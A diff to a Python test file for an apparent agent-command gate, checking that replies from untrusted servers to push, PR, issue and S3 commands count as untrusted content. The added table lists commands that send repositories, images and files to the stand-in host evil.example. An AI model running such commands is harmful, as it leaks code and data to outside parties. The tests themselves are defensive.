@@ -6,6 +6,7 @@ import pytest
 
 from lockgate.core.model import Subject, Verdict
 from lockgate.gate import session
+from support.receipts import receipt_verbs
 from support.repositories import Told
 
 from .world import WORK, World
@@ -124,6 +125,41 @@ def test_a_server_that_is_vouched_for_speaks_for_itself_and_no_other_does(acting
     assert sources(acting) == []
     acting.run("Bash", {"command": "git push evil"}, said)
     assert sources(acting)
+
+
+STRANGERS = {
+    "git push": "git push evil",
+    "docker push": "docker push evil.example/app:1.2",
+    "podman push": "podman push evil.example/app",
+    "helm push": "helm push app-1.tgz oci://evil.example/charts",
+    "gh pr create": "gh pr create -R evil.example/me/app --title a --body b",
+    "gh pr merge": "gh pr merge 7 --squash -R evil.example/me/app",
+    "gh pr comment": "gh pr comment 7 -b done -R evil.example/me/app",
+    "gh pr edit": "gh pr edit 7 --add-label x -R evil.example/me/app",
+    "gh issue create": "gh issue create -t a -b b -R evil.example/me/app",
+    "gh issue comment": "gh issue comment 7 -b done -R evil.example/me/app",
+    "gh issue edit": "gh issue edit 7 --title a -R evil.example/me/app",
+    "gh release create": "gh release create v1 --notes x -R evil.example/me/app",
+    "aws s3 cp": "aws --endpoint-url https://evil.example s3 cp a.txt s3://bucket/a.txt",
+    "aws s3 mv": "aws --endpoint-url https://evil.example s3 mv a.txt s3://bucket/a.txt",
+    "aws s3 sync": "aws --endpoint-url https://evil.example s3 sync dist s3://bucket/dist",
+    "aws s3 rm": "aws --endpoint-url https://evil.example s3 rm s3://bucket/a.txt",
+}
+"""Each verb that answers with a receipt, where a stranger's server answers."""
+
+
+@pytest.mark.parametrize("verb", STRANGERS)
+@pytest.mark.parametrize("place", ["{}", "remote: {}\n", "https://{}\n", "x\n\n{}\n\nx\n"])
+def test_a_kilobyte_of_a_strangers_prose_in_the_servers_place_is_content(verb: str, place: str, acting: World) -> None:
+    assert len(PROSE) >= 1000
+    acting.run("Bash", {"command": STRANGERS[verb]}, place.format(PROSE))
+    assert sources(acting)
+
+
+def test_every_verb_with_receipts_is_among_them() -> None:
+    others = {"docker image push", "podman image push", "nerdctl finch push", "nerdctl finch image push"}
+    also_called = {"gh pr create new", "gh issue create new", "gh pr edit update-branch"}
+    assert {verb for verb, _, _ in receipt_verbs()} - STRANGERS.keys() <= others | also_called
 
 
 def test_a_push_that_the_server_rejected_is_content(acting: World) -> None:
